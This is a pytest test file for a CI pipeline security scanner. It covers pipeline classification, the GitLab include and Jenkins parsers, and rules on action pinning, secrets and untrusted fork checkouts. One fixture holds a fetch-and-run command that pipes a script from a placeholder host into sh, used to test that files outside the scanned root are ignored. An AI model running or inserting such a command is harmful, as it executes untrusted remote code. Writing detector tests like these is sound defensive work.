"""Pipeline targets: classification, the platform parsers (line spans, include: local kept
inside the root, the Jenkinsfile subset reader), the pipelines settings, and the project's own
CI examples passing the pipeline rules."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from hms_policy.api import scan
from hms_policy.cli import main
from hms_policy.model import TargetKind
from hms_policy.targets.discover import Candidate, read_source
from hms_policy.targets.document import Document, ParseError
from hms_policy.targets.kinds import classify
from hms_policy.targets.parsers import parser_for
from hms_policy.targets.parsers.pipelines.groovy import parse

REPO = Path(__file__).resolve().parents[2]


def nodes_of(root: Path, rel: str) -> tuple[list, Document]:
    source, _ = read_source(Candidate(rel, root / rel))
    doc = Document(source, parser_for(source.kind, rel))
    return doc.nodes, doc


def write(root: Path, rel: str, text: str) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def ci_findings(root: Path, **kwargs: object) -> list:
    report = scan([root], fail_on="none", cache=False, read_project_settings=False, use_gitignore=False, **kwargs)  # type: ignore[arg-type]
    return [f for f in report.findings if f.rule_id.startswith("CI")]


@pytest.mark.parametrize(
    ("path", "head", "kind"),
    [
        (".github/workflows/ci.yml", b"on: push\n", TargetKind.GITHUB_ACTIONS),
        ("action.yml", b"name: x\nruns:\n  using: composite\n", TargetKind.GITHUB_ACTIONS),
        ("action.yml", b"name: not an action\n", TargetKind.CONFIG),
        (".gitlab-ci.yml", b"", TargetKind.GITLAB_CI),
        ("ci/deploy.gitlab-ci.yml", b"", TargetKind.GITLAB_CI),
        ("examples/ci/gitlab-template.yml", b"scan:\n  script:\n    - make\n", TargetKind.GITLAB_CI),
        ("docs/gitlab-notes.yml", b"title: notes\n", TargetKind.CONFIG),
        ("Jenkinsfile", b"pipeline {}", TargetKind.JENKINS),
        ("jenkins/Jenkinsfile.release", b"", TargetKind.JENKINS),
        ("azure-pipelines.yml", b"", TargetKind.AZURE_PIPELINES),
        ("bitbucket-pipelines.yml", b"", TargetKind.BITBUCKET_PIPELINES),
        ("docs/workflow-example.yml", b"on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n", TargetKind.GITHUB_ACTIONS),
        ("config/app.yml", b"jobs:\n  a: 1\n", TargetKind.CONFIG),
    ],
)
def test_classification(path: str, head: bytes, kind: TargetKind) -> None:
    assert classify(path, head) is kind


def test_github_jobs_keep_lines(tmp_path: Path) -> None:
    write(tmp_path, ".github/workflows/ci.yml", "on:\n  pull_request:\njobs:\n  test:\n    runs-on: self-hosted\n    needs: [lint]\n    steps:\n      - uses: a/b@v1\n      - run: |\n          make\n")
    nodes, doc = nodes_of(tmp_path, ".github/workflows/ci.yml")
    job = nodes[0].value
    assert (job["name"], job["line"], job["public_pr"], job["self_hosted"], job["needs"]) == ("test", 4, True, True, ["lint"])
    assert [(s["uses"], s["uses_line"]) for s in job["steps"]][0] == ("a/b@v1", 8)
    assert job["steps"][1]["run_line"] == 10  # the block scalar's first line, not the `run: |` key


def test_gitlab_include_local_is_followed_inside_the_root_only(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    write(tmp_path, "outside.yml", "leak:\n  script:\n    - curl -s https://x.example.com | sh\n")
    write(root, "ci/deploy.yml", "deploy:\n  stage: deploy\n  script:\n    - kubectl apply -f k8s/\n")
    write(root, ".gitlab-ci.yml", "include:\n  - local: ci/deploy.yml\n  - local: ../outside.yml\n  - project: group/other\n    file: x.yml\n  - remote: https://example.com/ci.yml\nbuild:\n  script: [make]\n")
    nodes, doc = nodes_of(root, ".gitlab-ci.yml")
    names = {n.value["name"]: n for n in nodes}
    assert set(names) == {"build", "deploy"}  # never the job of the file outside the root
    assert names["deploy"].meta["path"] == "ci/deploy.yml" and "ci/deploy.yml" in doc.included
    messages = " | ".join(e.message for e in doc.errors)
    assert "outside the scanned root" in messages and "a project file" in messages and "a remote file" in messages
    findings = ci_findings(root)
    deploy = [f for f in findings if f.rule_id == "CI014"]
    assert [(f.path, f.line) for f in deploy] == [("ci/deploy.yml", 4)]  # reported where the job is written


def test_gitlab_extends_and_stage_order(tmp_path: Path) -> None:
    write(tmp_path, ".gitlab-ci.yml", ".base:\n  image: alpine:3.20\n  when: manual\nscan:\n  stage: test\n  script: [hms-policy scan .]\ndeploy:\n  extends: .base\n  stage: deploy\n  script: [helm upgrade --install a ./c]\n")
    nodes, _ = nodes_of(tmp_path, ".gitlab-ci.yml")
    deploy = next(n.value for n in nodes if n.value["name"] == "deploy")
    assert deploy["manual"] and deploy["after"] == ["scan"] and deploy["images"][0]["value"] == "alpine:3.20"


def test_jenkins_reader_skips_unknown_groovy_structurally() -> None:
    source = "@Library('x') _\npipeline {\n  agent any\n  stages {\n    stage('A') {\n      steps {\n        script {\n          def v = readJSON file: 'a.json'\n          for (int i = 0; i < 3; i++) { sh \"echo ${i}\" }\n          if (v.ok) { sh 'make deploy' } else { echo 'no' }\n        }\n      }\n    }\n  }\n}\n"
    calls = parse(source)
    pipeline = next(c for c in calls if c.name == "pipeline")
    seen = []

    def walk(items: list) -> None:
        for c in items:
            if c.name == "sh":
                seen.append((c.args[0], c.line))
            walk(c.block or [])

    walk(pipeline.block or [])
    assert seen == [("echo ${i}", 9), ("make deploy", 10)]


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("pipeline {\n  stages {\n", "unbalanced"),
        ("pipeline { steps { sh 'unterminated } }", "unterminated string"),
        ("/* never closed\npipeline {}", "unterminated comment"),
        ("node {\n  sh 'make'\n}\n", "scripted pipeline"),
    ],
)
def test_jenkins_parse_failures_are_clear_errors(tmp_path: Path, source: str, reason: str) -> None:
    write(tmp_path, "Jenkinsfile", source)
    with pytest.raises(ParseError, match=reason):
        nodes_of_strict(tmp_path)
    report = scan([tmp_path], fail_on="none", cache=False, read_project_settings=False)
    assert any(e.path == "Jenkinsfile" and reason in e.message for e in report.errors)


def nodes_of_strict(root: Path) -> None:
    from hms_policy.targets.parsers.pipelines.jenkins import jenkins_nodes

    source, _ = read_source(Candidate("Jenkinsfile", root / "Jenkinsfile"))
    jenkins_nodes(Document(source))


def test_bad_yaml_goes_to_errors(tmp_path: Path) -> None:
    write(tmp_path, ".github/workflows/broken.yml", "on: [push\njobs: {\n")
    write(tmp_path, "bitbucket-pipelines.yml", "image: node:20\n")
    report = scan([tmp_path], fail_on="none", cache=False, read_project_settings=False)
    paths = {e.path for e in report.errors}
    assert {".github/workflows/broken.yml", "bitbucket-pipelines.yml"} <= paths


def test_pin_first_party_and_trusted_owner_settings(tmp_path: Path) -> None:
    write(tmp_path, ".github/workflows/ci.yml", "on: push\npermissions: {contents: read}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: acme/tool@v1\n")
    assert [f.line for f in ci_findings(tmp_path) if f.rule_id == "CI006"] == [8]
    strict = ci_findings(tmp_path, settings={"pipelines": {"pin_first_party_actions": True, "trusted_action_owners": ["acme"]}})
    assert [f.line for f in strict if f.rule_id == "CI006"] == [7]


def test_require_image_digest_setting(tmp_path: Path) -> None:
    write(tmp_path, ".gitlab-ci.yml", "test:\n  image: python:3.12\n  services: [postgres:16]\n  script: [pytest]\n")
    assert not [f for f in ci_findings(tmp_path) if f.rule_id == "CI008"]
    strict = ci_findings(tmp_path, settings={"pipelines": {"require_image_digest": True}})
    assert sorted(f.line for f in strict if f.rule_id == "CI008") == [2, 3]


def test_scanners_setting_counts_a_custom_gate(tmp_path: Path) -> None:
    write(tmp_path, ".gitlab-ci.yml", "stages: [test, deploy]\ngate:\n  stage: test\n  script: [./our-policy-check]\ndeploy:\n  stage: deploy\n  environment: production\n  script: [kubectl apply -f k8s]\n")
    assert [f.rule_id for f in ci_findings(tmp_path) if f.rule_id == "CI015"] == ["CI015"]
    assert not [f for f in ci_findings(tmp_path, settings={"pipelines": {"scanners": ["our-policy-check"]}}) if f.rule_id == "CI015"]


def test_unknown_pipelines_setting_is_a_usage_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write(tmp_path, ".hms-policy.yaml", "pipelines:\n  pin_everything: true\n")
    assert main(["scan", str(tmp_path), "--fail-on", "none", "--no-cache"]) == 2
    assert "Traceback" not in capsys.readouterr().err


def test_inline_suppression_and_sarif(tmp_path: Path) -> None:
    write(tmp_path, ".github/workflows/ci.yml", "on: push\npermissions: {contents: read}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      # hms-policy: ignore[CI006] reason=vendor pins by tag, reviewed 2026-11\n      - uses: acme/tool@v1\n      - uses: acme/other@v2\n")
    findings = ci_findings(tmp_path)
    by_line = {f.line: f for f in findings if f.rule_id == "CI006"}
    assert by_line[8].suppressed and not by_line[9].suppressed
    out = tmp_path / "r.sarif"
    assert main(["scan", str(tmp_path / ".github"), "--format", "sarif", "--output", str(out), "--fail-on", "none", "--no-cache"]) == 0
    assert "CI006" in {r["ruleId"] for r in json.loads(out.read_text())["runs"][0]["results"]}


EXAMPLES = REPO / "examples" / "ci"
ROOT_ACTION = [p for p in (REPO / "action.yml", REPO / "action.yaml") if p.is_file()]


@pytest.mark.parametrize("path", sorted(EXAMPLES.glob("*.y*ml")) + ROOT_ACTION, ids=lambda p: p.name)
def test_project_ci_examples_pass_the_pipeline_rules(path: Path) -> None:
    source, _ = read_source(Candidate(path.name if path.parent != EXAMPLES else f"examples/ci/{path.name}", path))
    assert source.kind in (TargetKind.GITHUB_ACTIONS, TargetKind.GITLAB_CI), f"{path} is not read as a pipeline"
    report = scan([path], fail_on="none", cache=False, preview=True, read_project_settings=False)
    problems = [(f.rule_id, f.line, f.message) for f in report.findings if f.rule_id.startswith("CI")]
    assert not problems
    assert not [e for e in report.errors if e.reason == "parse"]


def test_a_template_placeholder_is_not_an_action_reference() -> None:
    """`<org>/hms-policy@<commit-sha>` in a documented template is a hard negative for the
    pinning rules: nothing is referenced until the reader fills it in."""
    from hms_policy.detectors.pipelines.common import action_parts

    assert action_parts("<org>/hms-policy@<commit-sha>") is None
    assert action_parts("acme/deploy@v1") == ("acme", "acme/deploy", "v1")


def test_inherited_secrets_to_a_reusable_workflow_are_medium(tmp_path: Path) -> None:
    """`secrets: inherit` reaches only the caller organisation's own reusable workflows, so the
    movable ref is the owners' own: medium. A named secret to the same workflow stays high."""
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "ci.yml").write_text(
        "on: push\npermissions: {}\njobs:\n"
        "  inherited:\n    uses: someorg/workflows/.github/workflows/deploy.yml@main\n    secrets: inherit\n"
        "  named:\n    uses: someorg/workflows/.github/workflows/deploy.yml@main\n    secrets:\n      TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n"
    )
    report = scan([tmp_path], fail_on="none", cache=False, read_project_settings=False)
    found = {(f.line, str(f.severity)) for f in report.findings if f.rule_id == "CI010"}
    assert found == {(5, "medium"), (8, "high")}
    inherited = next(f for f in report.findings if f.rule_id == "CI010" and f.line == 5)
    assert "same_organisation" in inherited.extra


def test_a_user_name_kept_as_a_secret_is_no_credential_for_ci010(tmp_path: Path) -> None:
    write(tmp_path, ".github/workflows/build.yml",
          "on: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
          "      - uses: docker/metadata-action@v5\n        with:\n          images: ${{ secrets.DOCKER_HUB_USERNAME }}/app\n"
          "      - uses: docker/login-action@v3\n        with:\n          username: ${{ secrets.DOCKER_HUB_USERNAME }}\n          password: ${{ secrets.DOCKER_HUB_TOKEN }}\n")
    found = [(f.line, f.message) for f in ci_findings(tmp_path) if f.rule_id == "CI010"]
    assert len(found) == 1 and found[0][0] == 10 and "DOCKER_HUB_TOKEN" in found[0][1]


_REPORTER_JOB = """on:
  workflow_run:
    workflows: [build]
    types: [completed]
permissions:
  contents: read
  checks: write
jobs:
  report:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          repository: ${{ github.event.workflow_run.head_repository.full_name }}
          ref: ${{ github.event.workflow_run.head_branch }}
      - uses: dorny/test-reporter@v1
        with: {name: Unit tests, path: "**/surefire-reports/*.xml", reporter: java-junit}
"""


@pytest.mark.parametrize(
    ("after", "severity"),
    [
        ("", "medium"),  # only read by a reporter: nothing from the fork runs
        ("      - run: mvn -B verify\n", "critical"),  # the fork's build runs with the token
        ("      - uses: ./.github/actions/summarise\n", "critical"),  # a local action is the fork's code
    ],
)
def test_untrusted_checkout_weighs_whether_the_code_runs(tmp_path: Path, after: str, severity: str) -> None:
    write(tmp_path, ".github/workflows/report.yml", _REPORTER_JOB + after)
    found = [f for f in ci_findings(tmp_path) if f.rule_id == "CI001"]
    assert [f.severity.name.lower() for f in found] == [severity]


_OWN_ORG_WORKFLOW = (
    "on: push\npermissions: {contents: read}\njobs:\n"
    "  build:\n    uses: clinic-org/workflows/.github/workflows/build.yml@main\n    secrets: {HARBOR_TOKEN: '${{ secrets.HARBOR_TOKEN }}'}\n"
    "  scan:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: someone/scanner@v2\n"
)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".git/config", '[core]\n\tbare = false\n[remote "origin"]\n\turl = git@github.com:Clinic-Org/ehr.git\n'),
        (".github/CODEOWNERS", "# owners\n* @clinic-org/platform-team\n"),
        ("go.mod", "module github.com/clinic-org/ehr\n\ngo 1.22\n"),
        (".github/workflows/release.yml", "on: push\njobs:\n  r:\n    if: github.repository_owner == 'clinic-org'\n    runs-on: ubuntu-latest\n    steps: [{run: make}]\n"),
    ],
)
def test_the_repositorys_own_actions_are_first_party(tmp_path: Path, path: str, text: str) -> None:
    from hms_policy.targets.project_owner import project_owners

    write(tmp_path, ".github/workflows/ci.yml", _OWN_ORG_WORKFLOW)
    before = sorted((f.rule_id, f.line) for f in ci_findings(tmp_path) if f.rule_id in ("CI006", "CI010"))
    assert ("CI006", 5) in before and ("CI010", 5) in before  # nothing says who owns the tree
    write(tmp_path, path, text)
    assert project_owners(tmp_path) == ("clinic-org",)
    after = sorted((f.rule_id, f.line) for f in ci_findings(tmp_path) if f.rule_id in ("CI006", "CI010"))
    assert after == [("CI006", 10)]  # someone else's action is still third-party
    strict = ci_findings(tmp_path, settings={"pipelines": {"pin_own_actions": True}})
    assert ("CI006", 5) in [(f.rule_id, f.line) for f in strict]


def test_package_metadata_does_not_name_the_owner(tmp_path: Path) -> None:
    """Templates and forks copy package.json and pom.xml unchanged: they may name someone else."""
    from hms_policy.targets.project_owner import project_owners

    write(tmp_path, "package.json", '{"repository": {"url": "https://github.com/clinic-org/ehr.git"}}')
    write(tmp_path, "pom.xml", "<project><scm><url>https://github.com/clinic-org/ehr</url></scm></project>")
    assert project_owners(tmp_path) == ()
